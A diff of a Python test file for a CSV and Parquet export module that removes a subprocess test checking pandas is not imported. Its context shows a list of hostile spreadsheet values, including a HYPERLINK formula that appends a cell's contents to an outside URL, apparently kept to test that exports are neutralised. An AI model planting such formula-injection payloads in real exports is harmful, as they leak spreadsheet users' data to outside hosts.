@@ -4,8 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-import subprocess
-import sys
 from types import SimpleNamespace
 
 import numpy as np
@@ -16,7 +14,7 @@ from hypothesis import strategies as st
 
 from app.export import COLUMNS, as_csv, as_parquet, harmless
 from hypuml.gallery import Gallery
-from tests.support.app_support import ROOT, small_garden
+from tests.support.app_support import small_garden
 
 HOSTILE = [
     '=HYPERLINK("http://example.com/?"&A1,"look")',
@@ -163,20 +161,3 @@ def test_nothing_chosen_is_a_table_without_lines(make):
 def test_a_row_that_does_not_exist_is_refused(make, row):
     with pytest.raises(ValueError, match=rf"row {row} is not in this gallery of 3 images"):
         make(made_up(["a", "b", "c"]), np.array([0, row]))
-
-
-def test_neither_needs_pandas():
-    code = f"""
-import sys
-import numpy as np
-from app.export import as_csv, as_parquet
-from hypuml.gallery import Gallery
-gallery = Gallery.open({str(small_garden())!r})
-assert as_csv(gallery, np.arange(9)) and as_parquet(gallery, np.arange(9))
-print("pandas" in sys.modules)
-"""
-    result = subprocess.run(
-        [sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, timeout=120
-    )
-    assert result.returncode == 0, result.stderr
-    assert result.stdout.strip() == "False"
